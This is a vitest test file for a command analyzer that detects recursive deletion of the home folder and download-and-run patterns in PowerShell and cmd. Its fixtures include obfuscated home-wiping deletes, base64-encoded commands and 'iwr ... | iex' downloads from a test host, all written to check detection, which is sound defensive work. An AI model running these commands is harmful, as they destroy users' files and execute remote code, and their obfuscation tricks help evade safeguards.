import { describe, expect, it } from 'vitest'
import { analyze, type Dialect, effects } from '../index.ts'

function deletes(line: string, dialect: Dialect): string[] {
  const { commands } = analyze(line, { cwd: 'C:/Users/dev/project', home: 'C:/Users/dev', dialect })
  return commands.flatMap((c) =>
    effects(c)
      .deletes.filter((use) => use.recursive)
      .map((use) => use.known),
  )
}

const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const HOME = 'C:/Users/dev'

describe('a recursive delete of the home folder is found', () => {
  it.each([
    ['powershell', 'Remove-Item -Recurse -Force ~'],
    ['powershell', 'ri -r -fo $HOME'],
    ['powershell', 'REMOVE-ITEM $env:USERPROFILE -Rec'],
    ['powershell', 're`move-i`tem -Recurse ~'],
    ['powershell', "& 'Remove-Item' -Recurse ~"],
    ['powershell', "& ('Remove'+'-Item') -Recurse ~"],
    ['powershell', "$x = 'ri'; & $x -Recurse ~"],
    ['powershell', "iex 'rm -r ~'"],
    ['powershell', 'Get-ChildItem | ForEach-Object { rd ~ -Recurse }'],
    ['powershell', 'if ($true) { del -Recurse ~ }'],
    ['powershell', `powershell -EncodedCommand ${encode('ri -r ~')}`],
    ['powershell', 'cmd /c rd /s /q %USERPROFILE%'],
    ['powershell', 'powershell -NoProfile -ExecutionPolicy Bypass -Command "powershell -c \'rm -r ~\'"'],
    ['cmd', 'rd /s /q %USERPROFILE%'],
    ['cmd', 'r^d /s/q %USERPROFILE%'],
    ['cmd', 'rmdir/s/q "%USERPROFILE%"'],
    ['cmd', 'echo hi & del /s /q %USERPROFILE%'],
    ['cmd', 'if exist x (rd /s /q %USERPROFILE%)'],
    ['cmd', 'for %i in (a b) do rd /s /q %USERPROFILE%'],
    ['cmd', 'call rd /s /q %USERPROFILE%'],
    ['cmd', 'set X=rd& %X% /s /q %USERPROFILE%'],
    ['cmd', 'powershell -c "ri -r ~"'],
    ['posix', `pwsh -e ${encode('Remove-Item -Recurse ~')}`],
    ['posix', "cmd.exe /c 'r^d /s /q %USERPROFILE%'"],
  ] as const)('%s: %s', (dialect, line) => expect(deletes(line, dialect)).toContain(HOME))
})

describe('PowerShell', () => {
  it('reports what the network sends into iex', () => {
    const { commands, problems } = analyze('iwr https://a.test/i.ps1 | iex', { dialect: 'powershell' })
    expect(problems).toMatchObject([{ code: 'dynamic-code', from: [0] }])
    expect(effects(commands[0]!).hosts).toMatchObject([{ host: 'a.test' }])
  })

  it('reports a download that is called at once', () => {
    const line = "IEX(New-Object Net.WebClient).DownloadString('https://a.test/i.ps1')"
    expect(analyze(line, { dialect: 'powershell' }).problems.map((p) => p.code)).toEqual(['dynamic-code'])
  })

  it('reports every encoded command', () => {
    expect(analyze(`powershell -ec ${encode('ls')}`).problems.map((p) => p.code)).toEqual(['encoded-command'])
  })

  it.each([
    'Write-Output "rm -r ~"',
    "echo 'Remove-Item -Recurse ~'",
    'Get-Content a.txt | Select-String rm',
    '# ri -r ~',
    'npm test; git status',
  ])('leaves %s alone', (line) => {
    expect(deletes(line, 'powershell')).toEqual([])
    expect(analyze(line, { dialect: 'powershell' }).problems).toEqual([])
  })
})
